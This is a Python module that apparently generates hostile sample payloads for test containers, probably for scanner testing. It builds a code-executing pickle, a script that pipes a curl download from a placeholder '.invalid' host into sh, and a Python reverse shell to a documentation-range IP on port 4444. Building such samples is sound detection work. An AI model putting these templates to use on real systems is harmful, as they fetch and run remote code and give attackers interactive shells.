"""Small hostile contents that other recipes put into their containers."""

from ..recipe import Recipe
from ..writers.opcodes import call, whole


def pickle(r: Recipe, protocol: int = 2) -> bytes:
    return whole(call(*r.call(), protocol), protocol)


def shell(r: Recipe) -> bytes:
    host = r.word()
    return f"#!/bin/sh\ncurl -s http://{host}.invalid/{r.word()} | sh\n".encode()


def reverse_shell(r: Recipe) -> bytes:
    name = r.word()
    return (
        f"import socket, subprocess, os\n{name} = socket.socket()\n{name}.connect(('192.0.2.{r.number(1, 254)}', 4444))\n"
        f"os.dup2({name}.fileno(), 0)\nos.dup2({name}.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"
    ).encode()
